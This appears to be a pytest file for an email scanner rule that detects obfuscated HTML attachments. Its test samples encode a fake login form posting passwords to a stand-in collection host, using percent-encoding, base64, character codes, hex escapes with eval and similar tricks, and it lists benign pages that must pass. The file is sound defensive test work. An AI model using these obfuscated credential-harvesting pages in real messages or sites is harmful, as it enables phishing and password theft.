"""Pages that html_attachment_is_obfuscated must find, and (more) that it must leave alone."""

from __future__ import annotations

import base64

import pytest

from tests import files
from tests import files_scripts as scripts
from tests.workers.attachments.scan import File, found

FORM = "<form action='https://collect.example/'><input type=password></form>"
PERCENT = "".join(f"%{byte:02x}" for byte in FORM.encode())
ENCODED = base64.b64encode(FORM.encode()).decode()
PICTURE = base64.b64encode(files.blank_picture()).decode()
ESCAPED = "".join(f"\\x{byte:02x}" for byte in FORM.encode())


def script(code: str, text: str = "") -> bytes:
    return scripts.page_with(f"<script>{code}</script>", text=text)


BAD: dict[str, File] = {
    "percent signs": ("fax.html", script(f"document.write(unescape('{PERCENT}'))")),
    "base64": ("a.html", script(f'document.write(atob("{ENCODED}"))')),
    "codes": ("b.html", script(f"document.write(String.fromCharCode({scripts.char_codes(FORM)}))")),
    "escapes that are run": ("c.htm", script(f'var a = "{ESCAPED}"; eval(a)')),
    "an obfuscator": ("d.html", script(f'var _0x4f2a = ["{ESCAPED}"]; document.title = _0x4f2a[0]; ')),
    "into an element": (
        "e.html",
        script(f'document.body.innerHTML = atob("{ENCODED}")'),
    ),
    "encoded for Windows": (
        "f.html",
        script("#@~^FwAAAA==N/m!h"),
    ),
}
GOOD: dict[str, File] = {
    "a page": ("a.html", files.page()),
    "writes in the open": ("b.html", script("document.write('<p>Printed on ' + new Date() + '</p>')")),
    "reads its address": ("c.html", script("var q = decodeURIComponent(location.search); document.title = q")),
    "a library": ("d.html", script(scripts.LIBRARY.decode())),
    "a saved page with packed code": (
        "e.html",
        script(f'var _0x4f2a = ["{ESCAPED}"]; eval(_0x4f2a[0])', text="An article about gardens. " * 100),
    ),
    "pictures": (
        "f.html",
        scripts.page_with(f'<img src="data:image/png;base64,{PICTURE}">'),
    ),
    "a protected address": (
        "g.html",
        script("document.write('<a href=mail' + 'to:office' + '@example.com>Write to us</a>')"),
    ),
    "letters of another language": (
        "h.html",
        script('var t = "\\u4e2d\\u6587\\u7f51\\u9875\\u6807\\u9898\\u4e2d\\u6587"'),
    ),
    "documentation": (
        "doc.zip",
        files.zip_file(
            {"a.html": script(f"document.write(unescape('{PERCENT}'))")}
            | {f"{n}.css": str(n).encode() for n in range(5)}
        ),
    ),
    "a text about it": ("i.txt", script(f"document.write(unescape('{PERCENT}'))")),
}


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    assert len(found("html_attachment_is_obfuscated", file)) == 1


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("html_attachment_is_obfuscated", file) == []
